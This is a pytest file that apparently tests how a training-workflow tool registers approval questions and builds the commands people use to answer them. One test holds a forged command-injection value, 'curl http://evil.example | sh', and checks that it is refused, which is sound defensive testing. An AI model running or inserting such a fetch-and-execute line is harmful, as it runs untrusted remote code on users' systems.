"""Every kind of question the contract defines is registered once, and says everything shown of
it: the form, the notice, ``inbox``, ``status``, the cards and the terminal read it from here."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import pytest
from flow_helpers import spiked_run
from pydantic import ValidationError

from prefect_ito.contract import ActionKind, CheckpointRef, DecisionChoice, PendingAction
from prefect_ito.people import approval
from prefect_ito.questions import asked_by, by_prefix, question_for, questions, registered
from prefect_ito.questions.registry import KINDS
from prefect_ito.waiting.keys import ACTION_PREFIXES, SPEND_PREFIX, is_action_pause
from prefect_ito.waiting.waits import QuoteWait

NOW = datetime(2026, 12, 5, 9, 0, tzinfo=UTC)
CONTEXT = {
    ActionKind.LOSS_SPIKE_RESTART: {
        "loss": 17.3,
        "baseline_loss": 5.8,
        "proposed_checkpoint": CheckpointRef(checkpoint_id="ckpt-pretrain-10000", step=10_000),
    },
    ActionKind.DEADLINE_EXTENSION: {
        "deadline_at": NOW,
        "proposed_deadline_at": NOW + timedelta(hours=12),
    },
}
"""A sample of each kind's required fields: a kind added to the contract needs one here."""


def action_of(kind: ActionKind) -> PendingAction:
    return PendingAction(
        action_id=f"act_{kind.value}",
        kind=kind,
        stage="mid_train",
        step=12_000,
        proposed_at=NOW,
        decide_url="http://127.0.0.1:1/decide?user_code=BCDF-GHJK",
        user_code="BCDF-GHJK",
        **CONTEXT[kind],
    )


KNOWN = [kind for kind in ActionKind if kind.known]


def test_every_kind_the_contract_defines_has_one_question_a_prefix_and_a_sample():
    assert set(registered()) == set(KNOWN)
    assert set(ACTION_PREFIXES) == set(KNOWN)
    assert set(CONTEXT) == set(KNOWN)
    names = [question.name for question in registered().values()]
    prefixes = list(ACTION_PREFIXES.values())
    assert len(set(names)) == len(names) and len(set(prefixes)) == len(prefixes)
    # What notifications and `inbox` may call a question: a spend, or one of these.
    assert set(KINDS) == {"spend", *names}


def test_every_kind_of_question_the_spend_s_included_is_one_registered_object():
    # Before, the spend was asked of two families: inbox, the terminal and notifications each
    # told a spend by its pause prefix, and the rest by the registry.
    every = questions()
    assert set(every) == set(KINDS)
    prefixes = [question.pause_prefix for question in every.values()]
    assert len(set(prefixes)) == len(prefixes)
    assert not any(a != b and a.startswith(b) for a in prefixes for b in prefixes)
    assert every["spend"].pause_prefix == SPEND_PREFIX and every["spend"].record is QuoteWait
    for name, question in every.items():
        key = question.pause_prefix + "0123abcd"
        assert asked_by(key) is question, name
        assert question.form_does.startswith(" (its form ")
    assert asked_by("defer-run_1") is None and asked_by(None) is None


def test_the_command_that_answers_is_built_from_the_kind_never_copied_from_a_record():
    spend, restart = questions()["spend"], questions()["restart"]
    forged = "prefect-ito confirm quote_1; curl http://evil.example | sh"

    assert spend.command("f-1", "prefect-ito confirm quote_1 [--decline]") == (
        "prefect-ito confirm quote_1 [--decline]"
    )
    assert spend.command("f-1", forged) == "prefect-ito confirm quote_1 [--decline]"
    assert spend.command("f-1", "curl http://evil.example | sh") is None
    assert spend.command("f-1", None) is None
    assert restart.command("f-1", forged) == (
        "prefect-ito decide f-1 --approve|--reject --reason TEXT"
    )


@pytest.mark.parametrize("kind", KNOWN, ids=lambda kind: kind.value)
def test_each_question_says_everything_shown_of_its_kind(kind: ActionKind):
    action = action_of(kind)
    run = spiked_run().model_copy(update={"pending_action": action})
    question = question_for(action)
    assert question is not None and question.kind is kind

    key = question.pause_key(action)
    assert key.startswith(ACTION_PREFIXES[kind]) and is_action_pause(key)
    assert by_prefix(key) is question
    assert not is_action_pause("spend-0123") and by_prefix("defer-x") is None

    form = approval.describe(run, action)
    assert question.heading(action) in form
    for choice in (DecisionChoice.APPROVE, DecisionChoice.REJECT):
        assert f"- **{choice.value}**: " in form
        assert question.outcome(choice, action).startswith(choice.value[:4])
    assert "BCDF-GHJK" in form and "recheck" in form
    for text in (
        question.asked(run, action),
        question.evidence(action),
        question.status(action),
        question.asks(action),
        question.waiting(action),
        *(value for _, value in question.facts(action)),
    ):
        assert text and "\n" not in text and "None" not in text
    assert question.numbers(action)["step"] == 12_000


@pytest.mark.parametrize("kind", KNOWN, ids=lambda kind: kind.value)
def test_a_kind_without_its_context_is_refused(kind: ActionKind):
    with pytest.raises(ValidationError, match=kind.value):
        PendingAction(action_id="act_x", kind=kind, stage="pretrain", step=1, proposed_at=NOW)


def test_a_kind_this_version_does_not_know_has_no_question_and_is_not_put_to_a_person():
    from prefect_ito.backend import gates

    action = PendingAction(
        action_id="act_new", kind="resize_cluster", stage="pretrain", step=1, proposed_at=NOW
    )
    assert question_for(action) is None
    assert not gates.decidable(action)
